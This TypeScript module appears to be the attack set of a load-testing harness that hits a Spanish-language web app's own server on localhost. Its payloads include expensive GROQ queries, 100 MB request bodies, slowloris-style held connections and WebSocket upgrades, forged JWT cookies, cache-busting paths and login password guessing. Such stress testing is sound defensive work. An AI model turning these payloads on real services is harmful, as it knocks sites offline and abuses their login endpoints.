import { randomBytes, randomUUID } from 'node:crypto'
import { connect } from 'node:net'
import { type SiegeRequest, type SiegeResult, sendRequest } from './client.ts'

/**
 * Input of an attack: the server's origin, the number of earlier requests, and an address to send
 * from.
 */
export interface Strike {
  origin: URL
  turn: number
  from: string
  targets: Targets
}

/** Strikes once; its status is counted. */
export type Attack = (strike: Strike) => Promise<SiegeResult>

const QUERY = '/lake/v2025-02-19/data/query/production'
const LISTEN = '/lake/v2025-02-19/data/listen/production'
const FORM = { 'content-type': 'application/x-www-form-urlencoded' }

const to =
  (path: string, more: Omit<SiegeRequest, 'path'> = {}): Attack =>
  ({ origin, from }) =>
    sendRequest(origin, { path, from, ...more })

/** Takes turns with several ways of one attack. */
const oneOf =
  (...attacks: Attack[]): Attack =>
  (strike) =>
    (attacks[strike.turn % attacks.length] ?? to('/'))(strike)

const groq = (query: string, params: Record<string, unknown> = {}): Attack =>
  to(QUERY, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query, params }),
  })

const numbers = (count: number, from: number) => Array.from({ length: count }, (_, i) => from + i)
const flood = (megabytes: number, text: string) => {
  const piece = Buffer.from(text.repeat(65_536 / text.length))
  return () => {
    let left = megabytes * 16
    return () => (left-- > 0 ? piece : null)
  }
}
const bigBody = (path: string, text: string, headers: Record<string, string> = FORM): Attack => {
  const begin = flood(100, text)
  return ({ origin, from }) =>
    sendRequest(origin, { path, from, method: 'POST', headers, body: begin() })
}

const STORAGE = '/supabase/storage/v1/object/media/x/y.png'
const PICTURE = { 'content-type': 'image/png' }

const madeUp = (part: unknown) => Buffer.from(JSON.stringify(part)).toString('base64url')
const madeUpCookie = () => {
  const token = [
    madeUp({ alg: 'ES256', typ: 'JWT', kid: randomUUID() }),
    madeUp({ sub: randomUUID(), aud: 'authenticated', exp: 4e9, session_id: randomUUID() }),
    randomBytes(64).toString('base64url'),
  ].join('.')
  const tokens = { access_token: token, refresh_token: randomUUID(), expires_at: 4e9 }
  return `session=${madeUp(tokens)}`
}

/** Holds a connection for some seconds, sending a piece now and then. */
function hold(first: string, piece: string): Attack {
  return ({ origin, from }) =>
    new Promise((resolve) => {
      const socket = connect({ port: Number(origin.port), host: '127.0.0.1', localAddress: from })
      let status = 0
      socket.on('connect', () => socket.write(first.replace('HOST', origin.host)))
      socket.on('data', (data) => {
        status ||= Number(/^HTTP\/1\.1 (\d+)/.exec(String(data))?.[1] ?? 0)
      })
      socket.on('error', () => {})
      const dripping = setInterval(() => piece && socket.write(piece), 500)
      const over = setTimeout(() => socket.destroy(), 3000)
      socket.on('close', () => {
        clearInterval(dripping)
        clearTimeout(over)
        resolve({ status, bytes: 0 })
      })
    })
}

const upgrade = (target: string, more = '') =>
  `GET ${target} HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${more}\r\n`
const costlyFilter = encodeURIComponent(
  `*[${Array.from({ length: 20 }, (_, i) => `_id match "*${i}*a*b"`).join(' || ')}]`,
)

/** Worst-case requests to everything public. The caller bounds their number. */
export const attacks: Record<string, Attack> = {
  queries: oneOf(
    groq(`"${'a '.repeat(76)}" match "*a*a*a*a*a*a*b"`),
    groq('array::intersects($a, $b)', { a: numbers(30_000, 0), b: numbers(30_000, 1e6) }),
    groq('count(*[count(*[^._id match "*a*"]) > 0])'),
    groq('$s', { s: 'x'.repeat(3_900_000) }),
  ),
  images: ({ origin, from, turn, targets }) => {
    const path = `${targets.image}?w=${400 + ((turn * 37) % 1500)}&h=${300 + (turn % 900)}&fm=avif&blur=${turn % 50}`
    return sendRequest(origin, { path, from })
  },
  listeners: hold(
    `GET ${LISTEN}?query=${costlyFilter} HTTP/1.1\r\nHost: HOST\r\nAccept: text/event-stream\r\n\r\n`,
    '',
  ),
  sockets: hold(upgrade(`${LISTEN}?query=${encodeURIComponent('*')}`), ''),
  forms: oneOf(
    bigBody('/sesion', 'x'.repeat(16), { 'content-type': 'application/json' }),
    bigBody('/acceso', 'a=&a'),
    bigBody('/registro', 'name=aaa'),
  ),
  fields: to('/acceso', { method: 'POST', headers: FORM, body: 'a=&'.repeat(20_000) }),
  uploads: oneOf(
    bigBody(STORAGE, 'x'.repeat(16), PICTURE),
    bigBody(STORAGE, 'x'.repeat(16), { ...PICTURE, authorization: 'Bearer made.up' }),
    bigBody('/lake/v2025-02-19/assets/images/production', 'x'.repeat(16), PICTURE),
  ),
  cookies: (strike) => to('/niveles', { headers: { cookie: madeUpCookie() } })(strike),
  addresses: (strike) =>
    oneOf(
      to(`/${randomUUID()}`),
      to(`/blog/${randomUUID()}`),
      to(`/planes?${randomUUID()}=1`),
      to(`/xx/${randomUUID()}`),
      to(`/cursos/${randomUUID()}`),
      to(`/__manifest?version=${strike.targets.manifest}${'&p=/a'.repeat(1000)}`),
    )(strike),
  searches: (strike) => to(`/buscar?q=a${randomUUID().slice(0, 4)}`)(strike),
  pictures: ({ origin, from, turn }) => {
    const page = sharedPages[turn % sharedPages.length] ?? ''
    return sendRequest(origin, { path: `/og/${page}.png`, from, timeout: 20_000 })
  },
  passwords: (strike) =>
    oneOf(
      to('/acceso', {
        ...{ method: 'POST', headers: FORM },
        body: `email=${randomUUID()}%40example.com&password=tesoro${strike.turn}`,
      }),
      to('/supabase/auth/v1/token?grant_type=password', {
        method: 'POST',
        headers: { apikey: strike.targets.anonKey, 'content-type': 'application/json' },
        body: JSON.stringify({ email: `${randomUUID()}@example.com`, password: 'no' }),
      }),
    )(strike),
  slow: oneOf(
    hold('GET / HTTP/1.1\r\nHost: HOST\r\n', 'x: y\r\n'),
    hold('POST /acceso HTTP/1.1\r\nHost: HOST\r\nContent-Length: 60000\r\n\r\n', 'a'),
  ),
}

const places = [
  '',
  '/niveles',
  '/planes',
  '/tesoros',
  '/tienda',
  '/blog',
  '/comunidad',
  '/contacto',
]
const sharedPages = ['es', 'en', 'fr', 'de', 'it', 'ru'].flatMap((language) =>
  places.map((place) => language + place),
)

/** Targets of some attacks. */
export interface Targets {
  /** Path of a picture of the landing page. */
  image: string
  /** Version of the scripts, which the site's list of routes is asked with. */
  manifest: string
  /** The public key of the members' backend. */
  anonKey: string
}

/** Finds the targets as any visitor would. */
export async function aim(origin: string, anonKey: string): Promise<Targets> {
  const html = await (await fetch(origin)).text()
  const image = /\/lake\/images\/[^?"]+\.(?:jpg|png|webp)/.exec(html)?.[0] ?? '/'
  const manifest = /\/assets\/manifest-([0-9a-f]+)\.js/.exec(html)?.[1] ?? ''
  return { image, manifest, anonKey }
}
